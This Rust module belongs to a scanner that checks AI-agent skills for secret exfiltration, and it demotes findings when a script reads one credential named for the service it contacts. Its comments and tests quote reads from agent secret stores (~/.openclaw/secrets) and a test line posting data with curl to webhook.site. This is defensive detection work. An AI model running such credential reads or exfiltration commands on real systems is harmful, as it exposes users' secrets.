//! One key picked out of an agent's secret store for the service the same script talks to
//! (round 29b, sets28b).
//!
//! Agents keep per-service secrets in their store (`~/.openclaw/secrets/gmail.env`,
//! `~/.clawdbot/.env`), and a skill's script picks the one it needs: `GMAIL_PASS=$(grep GMAIL_PASS
//! ~/.openclaw/secrets/gmail.env | cut -d= -f2)`, then logs in to `imap.gmail.com`. The key's name
//! and the host agree (`GMAIL` and `gmail`), as a vendor's key sent to the vendor's API does: the
//! script loads its own setting. Reading the store in bulk, or for another service, is what the
//! agent-secrets rule is for.
//!
//! The agent-secrets finding of a line drops to `medium` when the line names a credential variable
//! (`…_PASS`, `…_PASSWORD`, `…_TOKEN`, `…_KEY`, `…_SECRET`) whose first word is the registered name
//! of a host the same file's code names (`gmail` of `imap.gmail.com`), and the file names no
//! suspicious host (a collector, paste site, tunnel, raw IP). Its facts stay, so a flow from the
//! store to anywhere is still judged. A key for another service, a whole-store read, or a file that
//! also talks to a suspicious host keep the grade.

use crate::scan::content::FileScan;
use crate::scan::rules::Severity;

const RULE: &str = "exfiltration.other-agent-secrets";

/// Last words of a credential variable.
const SECRET_SUFFIXES: &[&str] = &[
    "PASS", "PASSWORD", "PASSWD", "TOKEN", "KEY", "SECRET", "APIKEY",
];

/// First words that name no service.
const GENERIC: &[&str] = &["API", "APP", "MY", "SECRET", "ACCESS", "AUTH", "USER", "DB"];

/// The registered names (the label before the last: `gmail` of `imap.gmail.com`) of the host names
/// written as string literals or URLs in `text`.
fn registered_names(text: &str) -> Vec<String> {
    let mut out: Vec<String> = crate::scan::judge::hosts_in(text)
        .into_iter()
        .filter_map(|h| crate::scan::hosts::second_level(&h.host))
        .collect();
    // Host names quoted on their own (`IMAP4_SSL('imap.gmail.com')`, `host="smtp.x.example"`).
    let quoted = ['"', '\'']
        .into_iter()
        .flat_map(|q| text.split(q).skip(1).step_by(2));
    for part in quoted {
        let labels: Vec<&str> = part.split('.').collect();
        let tld = labels.last().copied().unwrap_or("");
        if labels.len() >= 2
            && labels
                .iter()
                .all(|l| !l.is_empty() && l.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
            && (2..=24).contains(&tld.len())
            && tld.bytes().all(|c| c.is_ascii_lowercase())
            && !crate::scan::teaching::FILE_EXTS.contains(&tld)
        {
            out.push(labels[labels.len() - 2].to_ascii_lowercase());
        }
    }
    out
}

/// The first words (lower-cased) of the credential variables a line names.
fn key_services(line: &str) -> Vec<String> {
    line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| w.contains('_') && !w.bytes().any(|c| c.is_ascii_lowercase()))
        .filter(|w| {
            w.rsplit('_')
                .next()
                .is_some_and(|last| SECRET_SUFFIXES.contains(&last))
        })
        .filter_map(|w| w.split('_').next())
        .filter(|first| first.len() >= 3 && !GENERIC.contains(first))
        .map(|first| first.to_ascii_lowercase())
        .collect()
}

/// Whether line `line` of a file whose text is `text` picks a key for a service the file talks to.
pub(crate) fn picks_key_for_host(text: &str, line: &str) -> bool {
    let services = key_services(line);
    if services.is_empty()
        || crate::scan::judge::hosts_in(text)
            .iter()
            .any(|h| h.class.is_suspicious())
    {
        return false;
    }
    let names = registered_names(text);
    services.iter().any(|s| names.contains(s))
}

/// How many lines after an agent-config read its channel entry may be picked and used.
const ENTRY_WINDOW: usize = 10;

/// The keys a text subscripts (`cfg['channels']['feishu']`, `["appSecret"]`, `.get('token')`),
/// lower-cased.
fn subscripts(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (open, quote) in [("['", '\''), ("[\"", '"'), ("get('", '\''), ("get(\"", '"')] {
        for part in text.split(open).skip(1) {
            if let Some(end) = part.find(quote).filter(|&e| (1..=40).contains(&e)) {
                let key = &part[..end];
                if key
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))
                {
                    out.push(key.to_ascii_lowercase());
                }
            }
        }
    }
    out
}

/// Whether the agent-config read on line `n` (1-based) of `text` picks one channel's secret out of
/// the config and uses it only with that channel's hosts (round 47b): within the next
/// [`ENTRY_WINDOW`] lines a subscript names a service (`['feishu']`) and another a secret
/// (`['appSecret']`, `['token']`), and every host those lines name is that service's
/// (`open.feishu.cn`); the file names no suspicious host. Reading the whole config, or sending the
/// entry to anyone else, is not this.
pub(crate) fn picks_entry_for_host(text: &str, n: usize) -> bool {
    let lines: Vec<&str> = text.lines().collect();
    if n == 0 || n > lines.len() {
        return false;
    }
    let window = lines[n - 1..(n + ENTRY_WINDOW).min(lines.len())].join("\n");
    let keys = subscripts(&window);
    let secret = keys.iter().any(|k| {
        ["secret", "token", "password", "apikey", "api_key"]
            .iter()
            .any(|w| k.contains(w))
    });
    let hosts = crate::scan::judge::hosts_in(&window);
    if !secret
        || hosts.is_empty()
        || crate::scan::judge::hosts_in(text)
            .iter()
            .any(|h| h.class.is_suspicious())
    {
        return false;
    }
    hosts.iter().all(|h| {
        crate::scan::hosts::second_level(&h.host)
            .is_some_and(|name| name.len() >= 3 && keys.contains(&name))
    })
}

/// Whether the agent-config read on line `n` of `text` picks one channel's secret for the service
/// that owns `host` (see [`picks_entry_for_host`]): the host's registered name is one of the keys
/// the lines after the read subscript.
pub(crate) fn entry_for_host(text: &str, n: usize, host: &str) -> bool {
    if !picks_entry_for_host(text, n) {
        return false;
    }
    let lines: Vec<&str> = text.lines().collect();
    let window = lines[n - 1..(n + ENTRY_WINDOW).min(lines.len())].join("\n");
    crate::scan::hosts::second_level(host).is_some_and(|name| subscripts(&window).contains(&name))
}

/// Lower the agent-secrets findings of lines that pick a key for the service the file talks to
/// (see the module's documentation).
pub(super) fn demote_key_for_host(text: &str, scan: &mut FileScan) {
    if !scan
        .findings
        .iter()
        .any(|f| f.rule_id == RULE && f.severity > Severity::Medium)
    {
        return;
    }
    for f in scan
        .findings
        .iter_mut()
        .filter(|f| f.rule_id == RULE && f.severity > Severity::Medium)
    {
        let Some(line) = text.lines().nth(f.line.saturating_sub(1)) else {
            continue;
        };
        if picks_key_for_host(text, line) {
            f.severity = Severity::Medium;
            f.description.push_str(" This line picks one key out of the store, named for the service the same file talks to, so it reads as the script loading its own setting; sending the store anywhere would still be judged.");
        } else if picks_entry_for_host(text, f.line) {
            f.severity = Severity::Medium;
            f.description.push_str(" The lines after it pick one channel's secret out of the config (a subscript named for the service) and use it only with that service's own hosts, so it reads as the skill signing in to that service; sending the config anywhere else would still be judged.");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::picks_key_for_host;

    const LINE: &str = "MAIL_PASS=$(grep MAIL_PASS $HOME/.openclaw/secrets/mail.env | cut -d= -f2)";

    #[test]
    fn key_named_for_the_host() {
        let text = format!(
            "{LINE}\npython3 -c \"import imaplib; imaplib.IMAP4_SSL('imap.mail.example')\"\n"
        );
        assert!(picks_key_for_host(&text, LINE));
    }

    #[test]
    fn other_service_or_suspicious_host_is_not() {
        let text =
            format!("{LINE}\ncurl -d @x https://webhook.site/abc\nhost='imap.mail.example'\n");
        assert!(!picks_key_for_host(&text, LINE));
        let text = format!("{LINE}\nhost='imap.other.example'\n");
        assert!(!picks_key_for_host(&text, LINE));
        let bulk = "cat $HOME/.openclaw/secrets/mail.env";
        assert!(!picks_key_for_host(
            &format!("{bulk}\nhost='imap.mail.example'\n"),
            bulk
        ));
    }
}
